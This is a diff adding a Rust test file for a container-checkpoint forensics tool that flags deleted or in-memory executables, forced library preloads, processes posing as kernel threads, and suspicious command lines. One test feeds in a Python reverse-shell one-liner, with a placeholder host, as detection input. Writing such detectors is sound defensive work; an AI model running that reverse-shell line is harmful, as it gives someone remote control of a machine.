@@ -1,0 +1,250 @@
+//! Programs, libraries, names and sessions.
+
+use ckpt_analysis::triage::Severity;
+use ckpt_synth::{Archive, File, Member, State, Task, Vma, stories};
+
+use super::*;
+
+const LIBRARY: u64 = 0x7f10_0000_0000;
+
+#[test]
+fn deleted_programs() {
+    let findings = looked(&Archive::podman(&stories::deleted_exe()));
+    let finding = one(&findings, "executable-deleted", 4);
+    assert_eq!(finding.severity, Severity::Critical);
+    assert_eq!(path(finding), "/tmp/.sysupd");
+    let members: Vec<_> = finding.evidence.iter().filter_map(|seen| seen.member.clone()).collect();
+    assert!(members.contains(&"checkpoint/mm-4.img".to_owned()), "{members:?}");
+    assert!(members.contains(&"checkpoint/ghost-file-1.img".to_owned()), "{members:?}");
+
+    let plain = found([Task::new(2, 1).exe_deleted("/usr/bin/app", "x")]);
+    assert_eq!(one(&plain, "executable-deleted", 2).severity, Severity::High);
+    // An update: the diff has a new file of that name.
+    let updated = found_with_diff(
+        Task::new(2, 1).exe_deleted("/usr/bin/app", "x"),
+        &[("usr/bin/app", LATER)],
+    );
+    assert_eq!(one(&updated, "executable-deleted", 2).severity, Severity::Medium);
+    none(&updated, "executable-not-from-image");
+}
+
+#[test]
+fn programs_in_memory() {
+    let findings = looked(&Archive::podman(&stories::memfd_exe()));
+    let finding = one(&findings, "executable-memfd", 6);
+    assert_eq!(finding.severity, Severity::Critical);
+    assert_eq!(path(finding), "/memfd:systemd-journald");
+    none(&findings, "executable-deleted");
+}
+
+#[test]
+fn programs_that_the_image_does_not_have() {
+    let task = |path: &str| Task::new(2, 1).exe(path).argv(&[path]);
+    let severity = |path: &str, mtime| {
+        let member = path.trim_start_matches('/').to_owned();
+        let findings = found_with_diff(task(path), &[(member.as_str(), mtime)]);
+        one(&findings, "executable-not-from-image", 2).severity
+    };
+    assert_eq!(severity("/opt/app/tool", LATER), Severity::High);
+    assert_eq!(severity("/var/tmp/tool", LATER), Severity::Critical);
+    assert_eq!(severity("/usr/share/.fonts/tool", BEFORE), Severity::Critical);
+    // Changing the owner copies the file into the diff, with its old time.
+    assert_eq!(severity("/opt/app/tool", BEFORE), Severity::Medium);
+
+    let elsewhere = found_with_diff(task("/opt/app/tool"), &[("opt/app/other", LATER)]);
+    none(&elsewhere, "executable-not-from-image");
+}
+
+#[test]
+fn programs_in_odd_places() {
+    let hidden = Task::new(2, 1).exe("/srv/www/.sys/d");
+    let findings = found([hidden.clone()]);
+    assert_eq!(one(&findings, "executable-in-odd-place", 2).severity, Severity::Medium);
+    let talks = hidden.fd(5, File::tcp(9, ([10, 0, 0, 1], 40_000), ([192, 0, 2, 7], 443), "", ""));
+    let finding = found([talks]);
+    let finding = one(&finding, "executable-in-odd-place", 2);
+    assert_eq!(finding.severity, Severity::High);
+    assert!(finding.evidence.iter().any(|seen| seen.what.contains("192.0.2.7:443")));
+    for honest in ["/app/.venv/bin/python3", "/root/.cargo/bin/tool", "/usr/bin/tool"] {
+        none(&found([Task::new(2, 1).exe(honest)]), "executable-in-odd-place");
+    }
+}
+
+#[test]
+fn scripts_that_the_image_does_not_have() {
+    let perl = |script: &str| Task::new(2, 1).exe("/usr/bin/perl").argv(&["perl", script]);
+    let findings = found_with_diff(perl("/dev/shm/.b.pl"), &[("dev/shm/.b.pl", LATER)]);
+    let finding = one(&findings, "script-not-from-image", 2);
+    assert_eq!(finding.severity, Severity::High);
+    assert_eq!(path(finding), "/dev/shm/.b.pl");
+    none(&found_with_diff(perl("/srv/app.pl"), &[]), "script-not-from-image");
+}
+
+fn preloads(value: &str) -> Task {
+    let variable = format!("LD_PRELOAD={value}");
+    Task::new(2, 1).exe("/usr/bin/app").env(&["PATH=/usr/bin", &variable])
+}
+
+#[test]
+fn libraries_that_the_environment_forces() {
+    let path_of = "/opt/.k/libx.so";
+    let mapped = preloads(path_of).map(Vma::file(LIBRARY, 0x1000, path_of, 0).prot(5));
+    let findings = found([mapped]);
+    let finding = one(&findings, "preloaded-library", 2);
+    assert_eq!(finding.severity, Severity::Critical);
+    assert_eq!(path(finding), path_of);
+    assert_eq!(finding.address.map(|at| at.0), Some(LIBRARY));
+    // It is told of once.
+    none(&findings, "library-not-from-image");
+
+    let loose = found([preloads(path_of)]);
+    assert_eq!(one(&loose, "preloaded-library", 2).severity, Severity::High);
+    let jemalloc = found([preloads("/usr/lib/x86_64-linux-gnu/libjemalloc.so.2")]);
+    assert_eq!(one(&jemalloc, "preloaded-library", 2).severity, Severity::Low);
+    let agent = Task::new(2, 1)
+        .exe("/usr/bin/java")
+        .env(&["JAVA_TOOL_OPTIONS=-Xmx1g -javaagent:/var/tmp/a.jar=x"]);
+    let agent = found([agent]);
+    assert_eq!(path(one(&agent, "preloaded-library", 2)), "/var/tmp/a.jar");
+    let folder = Task::new(2, 1).env(&["LD_LIBRARY_PATH=/usr/lib:/tmp/lib"]);
+    assert_eq!(path(one(&found([folder]), "preloaded-library", 2)), "/tmp/lib");
+    none(&found([Task::new(2, 1).env(&["LD_LIBRARY_PATH=/usr/local/lib"])]), "preloaded-library");
+}
+
+#[test]
+fn libraries_that_the_image_does_not_have() {
+    let app = || Task::new(2, 1).exe("/usr/bin/app");
+    let deleted = |path: &str| {
+        app().map(Vma::deleted_file(LIBRARY, 0x1000, path, 0, b"\x7fELF".to_vec()).prot(5))
+    };
+    let severity = |task| one(&found([task]), "library-not-from-image", 2).severity;
+    assert_eq!(severity(deleted("/var/tmp/l.so")), Severity::High);
+    assert_eq!(severity(deleted("/srv/l.so")), Severity::High);
+    assert_eq!(severity(deleted("/usr/lib/libssl.so.3")), Severity::Medium);
+    assert_eq!(
+        severity(app().map(Vma::file(LIBRARY, 0x1000, "/opt/.h/l.so", 0).prot(5))),
+        Severity::High
+    );
+    let findings = found_with_diff(
+        app().map(Vma::file(LIBRARY, 0x1000, "/usr/lib/libpam.so.0", 0).prot(5)),
+        &[("usr/lib/libpam.so.0", LATER)],
+    );
+    let finding = one(&findings, "library-not-from-image", 2);
+    assert_eq!((path(finding), finding.severity), ("/usr/lib/libpam.so.0", Severity::Medium));
+    // A runtime unpacks native parts of packages and removes them.
+    let java = Task::new(2, 1).exe("/usr/lib/jvm/bin/java").map(
+        Vma::deleted_file(LIBRARY, 0x1000, "/tmp/libnetty7.so", 0, b"\x7fELF".to_vec()).prot(5),
+    );
+    assert_eq!(severity(java), Severity::Low);
+    none(
+        &found([app().map(Vma::file(LIBRARY, 0x1000, "/usr/lib/libc.so.6", 0).prot(5))]),
+        "library-not-from-image",
+    );
+}
+
+#[test]
+fn a_library_in_memory_is_an_elf_file() {
+    let with = |bytes: &[u8]| {
+        let task = Task::new(2, 1)
+            .exe("/usr/bin/app")
+            .map(Vma::memfd(LIBRARY, 0x1000, "x").prot(1))
+            .map(Vma::memfd(LIBRARY + 0x1000, 0x1000, "x").prot(5).offset(0x1000));
+        let mut dump = dump([task]);
+        dump.memfd("x", 7000, 0x2000, &[(0, bytes)]);
+        looked(&Archive::podman(&dump))
+    };
+    let findings = with(b"\x7fELF\x02\x01\x01");
+    assert_eq!(one(&findings, "library-not-from-image", 2).severity, Severity::High);
+    // A compiler maps its code twice.
+    none(&with(b"\x90\x90"), "library-not-from-image");
+}
+
+#[test]
+fn names_of_kernel_threads() {
+    let findings = looked(&Archive::podman(&stories::kworker()));
+    let finding = one(&findings, "name-poses-as-kernel-thread", 3);
+    assert_eq!(finding.severity, Severity::Critical);
+    none(&findings, "name-mismatch");
+    let severity = |comm: &str, title: &str| {
+        let task =
+            Task::new(2, 1).exe("/usr/bin/app").comm(comm).argv(&["app", "--long", "option"]);
+        one(&found([task.title(title)]), "name-poses-as-kernel-thread", 2).severity
+    };
+    assert_eq!(severity("ksoftirqd/0", "[ksoftirqd/0]"), Severity::High);
+    assert_eq!(severity("nfsd", "[nfsd]"), Severity::High);
+    assert_eq!(severity("app", "[crypto]"), Severity::Medium);
+    assert_eq!(severity("kworker/u8:2", "app"), Severity::High);
+    for title in ["[celeryd: worker@host:MainProcess]", "[app]", "app [ready]"] {
+        let task = Task::new(2, 1).exe("/usr/bin/app").argv(&["app", "--a-long-option", "another"]);
+        none(&found([task.title(title)]), "name-poses-as-kernel-thread");
+    }
+}
+
+#[test]
+fn names_of_other_programs() {
+    let task =
+        |exe: &str, comm: &str, argv: &[&str]| Task::new(2, 1).exe(exe).comm(comm).argv(argv);
+    let severity = |task| one(&found([task]), "name-mismatch", 2).severity;
+    assert_eq!(severity(task("/opt/.z/x", "x", &["/usr/sbin/cupsd"])), Severity::High);
+    assert_eq!(severity(task("/usr/bin/perl", "perl", &["/usr/sbin/httpd", "-k"])), Severity::High);
+    assert_eq!(severity(task("/usr/bin/app", "app", &["sshd: root"])), Severity::High);
+    assert_eq!(severity(task("/usr/bin/app", "systemd", &["app"])), Severity::Medium);
+    for (exe, comm, argv) in [
+        ("/usr/bin/dash", "sh", &["-sh"][..]),
+        ("/usr/bin/python3.12", "gunicorn", &["/usr/bin/python3", "/usr/bin/gunicorn"]),
+        ("/usr/lib/postgresql/17/bin/postgres", "postgres", &["postgres: walwriter "]),
+        ("/usr/bin/redis-check-rdb", "redis-server", &["redis-server 127.0.0.1:6379"]),
+        ("/usr/bin/node", "MainThread", &["node", "/srv/app.js"]),
+        ("/bin/busybox", "crond", &["crond", "-f"]),
+        ("/usr/sbin/sshd", "sshd", &["sshd: /usr/sbin/sshd -D [listener]"]),
+        ("/usr/lib/jvm/bin/java", "java", &["java", "-jar", "/a.jar"]),
+        ("/usr/bin/vim.basic", "vi", &["vi", "x"]),
+        ("/usr/bin/mawk", "awk", &["awk", "{print}"]),
+    ] {
+        none(&found([task(exe, comm, argv)]), "name-mismatch");
+    }
+}
+
+#[test]
+fn where_processes_stand() {
+    let gone = Task::new(2, 1).cwd("/srv/work");
+    none(&found([gone]), "working-directory-deleted");
+    let rooted = found([Task::new(2, 1).root("/mnt/host")]);
+    assert_eq!(path(one(&rooted, "root-directory-changed", 2)), "/mnt/host");
+    none(&rooted, "process-stopped");
+    let stopped = found([Task::new(2, 1).state(State::Stopped)]);
+    assert_eq!(one(&stopped, "process-stopped", 2).severity, Severity::Info);
+    let reaching = found([Task::new(2, 1).exe("/usr/bin/app").fd(7, File::path("/proc/1/mem"))]);
+    assert_eq!(one(&reaching, "process-memory-open", 2).severity, Severity::High);
+    none(&found([Task::new(2, 1).fd(7, File::path("/proc/2/mem"))]), "process-memory-open");
+    let tracer = found([Task::new(2, 1).exe("/usr/bin/gdb").argv(&["gdb", "-p", "1"])]);
+    assert_eq!(one(&tracer, "tracing-tool", 2).severity, Severity::Low);
+    let outside = looked(&Archive::podman(&stories::two_roots()));
+    assert!(outside.iter().any(|one| one.rule.id == "process-outside-tree"), "{}", told(&outside));
+    none(&found([Task::new(2, 1)]), "process-outside-tree");
+}
+
+#[test]
+fn command_lines() {
+    let python =
+        |code: &str| Task::new(2, 1).exe("/usr/bin/python3").argv(&["python3", "-c", code]);
+    let spawn = "import socket,pty;s=socket.socket();s.connect(('h',1));pty.spawn('sh')";
+    let findings = found([python(spawn)]);
+    assert_eq!(one(&findings, "suspicious-command", 2).severity, Severity::High);
+    none(&found([python("print(1)")]), "suspicious-command");
+    let talks = python("import x")
+        .fd(5, File::tcp(9, ([10, 0, 0, 1], 40_000), ([192, 0, 2, 7], 443), "", ""));
+    assert_eq!(one(&found([talks]), "suspicious-command", 2).severity, Severity::Medium);
+}
+
+#[test]
+fn programs_of_a_package_weigh_less() {
+    let mut diff = Archive::new();
+    diff.push(Member::file("usr/bin/tool", b"\x7fELF").mode(0o755).mtime(LATER))
+        .push(Member::file("var/lib/dpkg/status", b"Package: tool\n").mtime(LATER))
+        .push(Member::file("var/lib/dpkg/info/tool.list", b"/.\n/usr/bin/tool\n").mtime(LATER));
+    let mut archive = Archive::podman(&dump([Task::new(2, 1).exe("/usr/bin/tool")]));
+    archive.replace("rootfs-diff.tar", diff.tar());
+    let findings = looked(&archive);
+    assert_eq!(one(&findings, "executable-not-from-image", 2).severity, Severity::Low);
+}
